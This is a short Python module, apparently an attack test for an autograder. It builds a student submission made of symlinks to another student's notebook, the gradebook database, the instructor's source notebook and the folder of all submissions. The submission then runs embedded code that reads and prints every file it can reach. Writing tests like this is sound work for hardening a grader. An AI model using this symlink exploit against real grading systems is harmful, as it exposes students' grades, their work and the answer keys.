"""Hand in links to another student's work, the gradebook and the sources, and read them."""

from autograder.attacks.course import first

READ = """
from pathlib import Path

for path in [p for p in Path.cwd().rglob("*") if p.is_file()]:
    print(path, path.read_bytes()[:200_000])
"""


def submission(nb, folder):
    (folder / "notes.txt").symlink_to("../../aaa_right/vault/vault.ipynb")
    (folder / "table.csv").symlink_to("../../../gradebook.db")
    (folder / "data").mkdir()
    (folder / "data" / "x.csv").symlink_to("../../../../source/vault/vault.ipynb")
    (folder / "others").symlink_to("../../../submitted", target_is_directory=True)
    return first(nb, READ)
